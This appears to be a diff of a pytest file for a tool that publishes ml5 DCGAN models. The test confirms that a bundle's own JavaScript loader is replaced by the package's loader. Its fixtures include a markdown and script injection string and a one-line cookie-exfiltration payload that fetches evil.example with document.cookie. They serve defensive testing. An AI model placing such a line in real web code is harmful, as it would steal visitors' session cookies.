@@ -8,11 +8,11 @@ import json
 import pytest
 from hosting import tiny_bundle
 
-from ml5_dcgan_tools.publish import layout
 from ml5_dcgan_tools.publish.gallery import render_gallery, script_json
 from ml5_dcgan_tools.publish.layout import PublishedFile, stage_model
 from ml5_dcgan_tools.publish.model_card import CardFacts, read_training, render_card
 from ml5_dcgan_tools.publish.text import markdown_inline
+from ml5_dcgan_tools.web.loader import loader_bytes
 
 HOSTILE = ('x\n---\nlicense: stolen\n# Heading ![img](http://evil.example/p.png) '
            '[link](http://evil.example) <script>alert(1)</script> "quoted" \\ `code` \u2028')
@@ -67,10 +67,7 @@ def test_usage_names_the_loader_only_when_it_is_published():
     assert "const { image, raw } = await gan.generate();" in card
 
 
-def test_the_published_loader_is_ours_never_the_bundles(tmp_path, monkeypatch):
-    ours = tmp_path / "ours.js"
-    ours.write_text("// the package's loader\n")
-    monkeypatch.setattr(layout, "PACKAGE_LOADER", ours)
+def test_the_published_loader_is_ours_never_the_bundles(tmp_path):
     bundle = tiny_bundle(tmp_path / "bundle")
     (bundle / "ml5-dcgan.js").write_text("fetch('https://evil.example/?' + document.cookie)\n")
     (bundle / "training.json").write_text(json.dumps({"steps": 5}))
@@ -78,7 +75,7 @@ def test_the_published_loader_is_ours_never_the_bundles(tmp_path, monkeypatch):
     staging = tmp_path / "staging"
     staging.mkdir()
     staged = stage_model(bundle, staging, None, {"license": "MIT", "author": "Ada"})
-    assert (staging / "ml5-dcgan.js").read_text() == "// the package's loader\n"
+    assert (staging / "ml5-dcgan.js").read_bytes() == loader_bytes()
     assert sorted(file.path for file in staged.files) == sorted([
         "manifest.json", "model.json", "group1-shard1of1.bin", "reference.json",
         "reference-outputs.bin", "training.json", "ml5-dcgan.js"])
